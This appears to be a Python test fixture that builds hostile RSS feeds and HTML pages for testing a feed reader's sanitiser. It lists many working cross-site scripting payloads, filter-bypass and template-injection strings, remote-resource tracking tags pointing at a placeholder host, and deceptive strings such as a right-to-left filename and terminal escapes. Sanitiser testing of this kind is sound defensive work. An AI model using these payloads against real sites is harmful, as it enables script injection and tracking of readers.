"""What a hostile publisher writes wherever it may write: each of SCRIPTS calls `hit` if a browser lets it."""

from __future__ import annotations

from html import escape

ELSEWHERE = "http://elsewhere.invalid"

SCRIPTS = (
    "<script>hit('script')</script>",
    "<ScRiPt >hit('case')</sCrIpT >",
    "<img src=x onerror=hit('img')>",
    "<img/src='x'/onerror=hit('slashes')>",
    "<svg onload=hit('svg')></svg>",
    "<svg><script>hit('svg-script')</script></svg>",
    "<svg><animate onbegin=hit('animate') attributeName=x dur=1s></svg>",
    "<body onload=hit('body')>",
    "<details open ontoggle=hit('details')>x</details>",
    "<input autofocus onfocus=hit('focus')>",
    "<video><source onerror=hit('source')></video>",
    "<iframe srcdoc=\"<script>parent.hit('srcdoc')</script>\"></iframe>",
    "<iframe src=\"javascript:parent.hit('iframe')\"></iframe>",
    "<object data=\"data:text/html,<script>hit('object')</script>\"></object>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit('noscript')>\">",
    "\"><script>hit('attribute')</script>",
    "'><img src=x onerror=hit('quote')>",
    "</title><script>hit('title')</script>",
    "</textarea><script>hit('textarea')</script>",
    "</pre></code></del><script>hit('pre')</script>",
    "--><script>hit('comment')</script>",
    "]]><script>hit('cdata')</script>",
    "\" autofocus tabindex=1 onfocus=hit('handler') x=\"",
    "' onmouseover=hit('over') style='position:fixed;inset:0' x='",
    "<a href=\"javascript:hit('link')\" id=click>x</a>",
    "<form action=\"javascript:hit('form')\"><button id=press>x</button></form>",
)
"""Each begins in a place of its own: text, attribute, title, comment, CDATA."""
CALLS = (
    f'<img src="{ELSEWHERE}/pixel.gif">',
    f'<link rel=stylesheet href="{ELSEWHERE}/style.css">',
    f"<style>@import '{ELSEWHERE}/import.css'; body {{ background: url({ELSEWHERE}/background.png) }}</style>",
    f'<p style="background: url({ELSEWHERE}/style.png)">x</p>',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/refresh">',
    f'<base href="{ELSEWHERE}/">',
    f'<iframe src="{ELSEWHERE}/frame"></iframe>',
    f'<video poster="{ELSEWHERE}/poster.jpg" src="{ELSEWHERE}/film.mp4" autoplay></video>',
    f'<script src="{ELSEWHERE}/script.js"></script>',
)
"""What would leave for another host, which tells its owner who reads what."""
LATE = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hit('mutation')&gt;\">",
    "<scr<script>ipt>hit('nested')</scr</script>ipt>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${hit('template')}",
)
"""What becomes something only behind a sanitiser, a filter or a template engine."""
LIES = ("evil\u202egpj.exe", "\x1b]0;owned\x07\x1b[2J", "a\u200bb\ufeffc", "z\u0300\u0301\u0302\u0303", "A" * 3000)
"""Right to left, escape sequences, what is not to be seen, and a word without an end."""
ALL = (*SCRIPTS, *CALLS, *LATE)
AN_ARTICLE = 3  # of them stand in each


def feed(base_url: str) -> bytes:
    """An RSS feed with an item for each, in every field that a page shows."""
    spaces = {
        "content": "http://purl.org/rss/1.0/modules/content/",
        "dc": "http://purl.org/dc/elements/1.1/",
        "media": "http://search.yahoo.com/mrss/",
    }
    names = " ".join(f'xmlns:{name}="{space}"' for name, space in spaces.items())
    texts = [*ALL, *(text for text in LIES if "\x1b" not in text)]  # which XML has no room for
    items = "".join(
        _item(number, " ".join(texts[number : number + AN_ARTICLE]), base_url)
        for number in range(0, len(texts), AN_ARTICLE)
    )
    return f'<?xml version="1.0"?><rss version="2.0" {names}><channel><title>x</title>{items}</channel></rss>'.encode()


def page_of(text: str) -> str:
    """Unescaped in every place, as no page of ours may show it: what a test must see go off."""
    places = (
        "<title>{}</title>",
        "<textarea>{}</textarea>",
        "<!--{}-->",
        '<input value="{}">',
        "<input value='{}'>",
        "<p>{}",
    )
    relative = "<img src=mark.png>"  # which a <base> sends elsewhere
    return "<!doctype html><html><body>" + "".join(place.replace("{}", text) for place in places) + relative


def broken() -> bytes:
    """A feed that cannot be read, so that its bytes are kept in quarantine and shown."""
    return b'<?xml version="1.0"?><rss><channel><item><title>\x1b]0;owned\x07' + "".join(ALL).encode()


def _item(number: int, text: str, base_url: str) -> str:
    said = escape(text)
    story = " ".join(f"The mason came to wall {number}, and it was the {word} time." for word in _TIMES)
    # as text, which a page must escape; and as markup, which cleaning must take out
    body = f"<p>{story}</p><p>{said} stood on it in letters of lime.</p>{text}<p>{story[:150]} He went home.</p>"
    return f"""<item><guid>hostile-{number}{said[:60]}</guid><title>{said} {number}</title>
<link>{base_url}/{number}?q={escape(said)[:200]}</link><description>{escape(said)}</description>
<dc:creator>{said}</dc:creator><dc:rights>{said}</dc:rights><dc:subject>{said}</dc:subject><category>{said}</category>
<media:content url="{base_url}/{number}.jpg?x={said[:200]}" medium="image"><media:title>{said}</media:title>
<media:description>{said}</media:description><media:credit>{said}</media:credit>
<media:copyright>{said}</media:copyright></media:content>
<content:encoded>{escape(body)}</content:encoded></item>"""


_TIMES = ("first", "second", "third", "fourth", "fifth", "sixth", "seventh", "eighth", "ninth", "tenth")
